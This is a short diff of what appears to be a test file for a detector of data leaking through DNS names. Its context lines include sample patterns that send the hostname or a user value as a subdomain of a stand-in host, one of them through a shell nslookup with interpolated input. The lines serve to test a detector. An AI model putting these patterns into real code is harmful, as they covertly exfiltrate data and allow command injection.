@@ -4,3 +4,5 @@ dns.lookup(os.hostname() + ".c.example.test", done);
 exec(`nslookup ${user}.c.example.test`);
 // ok: leaks-through-names
 dns.lookup("files.example.test", done);
+// ok: leaks-through-names
+const header = `host: ${url.hostname}${url.port ? `:${url.port}` : ""}.example\r\n`;
